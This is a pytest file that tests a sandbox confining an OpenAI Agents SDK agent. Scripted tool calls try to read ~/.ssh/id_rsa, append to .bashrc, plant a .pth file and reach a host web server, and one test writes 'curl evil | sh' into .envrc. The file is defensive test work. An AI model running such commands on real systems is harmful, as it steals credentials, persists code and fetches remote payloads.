"""The OpenAI Agents SDK adapter: a SandboxAgent's tools run under a sandboxctl policy.

The model is the SDK's own offline double (agents.testing.ScriptedModel): its scripted tool calls
attack (read ~/.ssh/id_rsa, write outside the workspace, reach a host the policy does not allow)
and then run the workspace's tests. Judged from outside: the host's files, the web server's own
request log, the action log — never the agent's word.
"""

from __future__ import annotations

import asyncio
import io
import json
import sys
from pathlib import Path

import pytest

agents = pytest.importorskip("agents", reason="the `agents` extra is not installed (pip install 'sandboxctl[agents]')")

from agents import Runner  # noqa: E402
from agents.run_config import RunConfig, SandboxRunConfig  # noqa: E402
from agents.sandbox import Manifest, SandboxAgent  # noqa: E402
from agents.sandbox.errors import WorkspaceArchiveWriteError  # noqa: E402
from agents.testing import ScriptedModel, assistant_message, function_call  # noqa: E402

from sandboxctl.integrations.openai_agents import SandboxctlSandboxClient  # noqa: E402

TEST_FILE = "def test_adds():\n    assert 1 + 1 == 2\n"


@pytest.fixture(autouse=True)
def no_tracing():
    """The SDK's trace exporter is a thread of its own that would outlive the test (and open
    connections to nowhere, offline): off, as every offline run should have it."""
    agents.set_tracing_disabled(True)
    yield


def records(home: Path) -> list[dict]:
    log = home.parent / "state" / "sandboxctl" / "actions.jsonl"
    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []


@pytest.fixture
def secret_key(home: Path) -> Path:
    ssh = home / ".ssh"
    ssh.mkdir()
    key = ssh / "id_rsa"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- canary-9f3b\n")
    return key


@pytest.fixture
def counting_web():
    """A web server on the host's 127.0.0.2 that counts the requests it gets (the judge of "not
    reached"); 127.0.0.1 inside the sandbox is the sandbox's own loopback."""
    import http.server
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello from the host")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def _shell(call_id: str, cmd: str):
    return function_call("exec_command", {"cmd": cmd, "yield_time_ms": 30000}, call_id=call_id)


def test_a_scripted_agent_is_blocked_three_ways_and_its_tests_pass(workspace, home, secret_key, counting_web,
                                                                   tmp_path):
    port, hits = counting_web
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "planted.txt"
    (workspace / "test_math.py").write_text(TEST_FILE)
    venv = Path(sys.prefix)
    steps = [
        [_shell("read-key", f"cat {secret_key}")],
        [_shell("write-out", f"echo planted > {victim}; echo pwned >> {home}/.bashrc; "
                             f"echo planted > {venv}/planted.pth")],
        [_shell("reach-host", f"python3 -c \"import urllib.request as u; print(u.urlopen("
                              f"'http://127.0.0.2:{port}/hello.txt', timeout=10).read())\"")],
        [_shell("tests", f"PYTHONDONTWRITEBYTECODE=1 {venv}/bin/python -m pytest -q -p no:cacheprovider test_math.py")],
        [assistant_message("done")],
    ]
    model = ScriptedModel(steps)
    agent = SandboxAgent(name="attacker", instructions="do as scripted", model=model,
                         default_manifest=Manifest(root=str(workspace)))
    client = SandboxctlSandboxClient(policy="default", allow_read=[str(venv)])
    config = RunConfig(sandbox=SandboxRunConfig(client=client), tracing_disabled=True)
    result = asyncio.run(Runner.run(agent, "go", run_config=config))
    assert result.final_output == "done"
    model.assert_complete()
    outputs = {item.raw_item["call_id"]: item.output for item in result.new_items
               if getattr(item, "type", "") == "tool_call_output_item"}
    # 1. the key never reached the agent
    assert "canary-9f3b" not in outputs["read-key"]
    # 2. nothing was written outside the workspace
    assert not victim.exists() and not (home / ".bashrc").exists() and not (venv / "planted.pth").exists()
    # 3. the host was not reached: the proxy refused, and the log says so
    assert "hello from the host" not in outputs["reach-host"]
    run_records = records(home)
    net = [r for r in run_records if r["event"] == "net"]
    assert net and all(r["decision"] == "deny" for r in net) and net[0]["port"] == port
    # and the agent's own work passed, in the sandbox
    assert "1 passed" in outputs["tests"] and "exited with code 0" in outputs["tests"]
    starts = [r for r in run_records if r["event"] == "command.start"]
    assert any(s["argv"][-1].endswith("test_math.py") for s in starts)
    denied = [r for r in run_records if r.get("decision") == "deny" and r["event"] == "file"]
    assert str(venv / "planted.pth") in {r["path"] for r in denied}  # the visible, read-only one is refused
    assert all("command_id" in r for r in denied + net)
    assert hits == []  # the web server never saw a request


def test_file_operations_of_the_sdk_run_inside_the_sandbox(workspace, home):
    """The SDK's own read/write (apply_patch, manifests, view_image) go through the sandbox too:
    a protected path inside the workspace stays protected even though the SDK allows it."""

    async def main():
        client = SandboxctlSandboxClient(policy="default")
        session = await client.create(manifest=Manifest(root=str(workspace)))
        await session.start()
        try:
            await session.write(Path("notes.txt"), io.BytesIO(b"written through the sandbox\n"))
            assert (workspace / "notes.txt").read_text() == "written through the sandbox\n"
            assert (await session.read(Path("notes.txt"))).read() == b"written through the sandbox\n"
            with pytest.raises(WorkspaceArchiveWriteError):
                await session.write(Path(".envrc"), io.BytesIO(b"curl evil | sh\n"))
            listed = await session.ls(Path("."))
            assert "notes.txt" in {Path(entry.path).name for entry in listed}
            result = await session.exec("echo $SANDBOXCTL", shell=True)
            assert result.stdout == b"1\n"
        finally:
            await session.aclose()
            await client.delete(session)

    asyncio.run(main())
    assert not (workspace / ".envrc").exists()
    argv = [r["argv"] for r in records(home) if r["event"] == "command.start"]
    assert ["sh", "-c", 'cat > "$1"', "sh", str(workspace / "notes.txt")] in argv
    assert records(home)[-1]["event"] == "run.end"


def test_a_default_manifest_gets_a_temporary_workspace_removed_at_delete(home):
    async def main():
        client = SandboxctlSandboxClient()
        session = await client.create()
        root = Path(session.state.manifest.root)
        await session.start()
        assert (await session.exec("pwd", shell=True)).stdout.decode().strip() == str(root)
        await session.aclose()
        await client.delete(session)
        return root

    root = asyncio.run(main())
    assert not root.exists()


def test_control_the_same_script_unconfined_does_reach_everything(workspace, home, secret_key, counting_web,
                                                                  tmp_path):
    """The attacks are real: under the SDK's own Linux client (no confinement) they all succeed."""
    from agents.sandbox.sandboxes.unix_local import UnixLocalSandboxClient

    port, hits = counting_web
    victim = tmp_path / "planted-unconfined.txt"
    steps = [[_shell("read-key", f"cat {secret_key}")], [_shell("write-out", f"echo planted > {victim}")],
             [_shell("reach-host", f"python3 -c \"import urllib.request as u; print(u.urlopen("
                                   f"'http://127.0.0.2:{port}/hello.txt', timeout=10).read())\"")],
             [assistant_message("done")]]
    agent = SandboxAgent(name="attacker", instructions="do as scripted", model=ScriptedModel(steps),
                         default_manifest=Manifest(root=str(workspace)))
    config = RunConfig(sandbox=SandboxRunConfig(client=UnixLocalSandboxClient()), tracing_disabled=True)
    result = asyncio.run(Runner.run(agent, "go", run_config=config))
    outputs = {item.raw_item["call_id"]: item.output for item in result.new_items
               if getattr(item, "type", "") == "tool_call_output_item"}
    assert "canary-9f3b" in outputs["read-key"]
    assert victim.read_text() == "planted\n"
    assert hits == ["/hello.txt"]


def test_the_example_runs_offline(workspace, home):
    import subprocess

    example = Path(__file__).resolve().parents[2] / "examples" / "openai_agents_sandbox.py"
    result = subprocess.run([sys.executable, str(example)], cwd=workspace, capture_output=True, text=True, timeout=120,
                            env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home),
                                 "XDG_STATE_HOME": str(home.parent / "state")})
    assert result.returncode == 0, result.stderr
    assert "test passed" in result.stdout and "refused" in result.stdout
    assert [r["event"] for r in records(home)][-1] == "run.end"
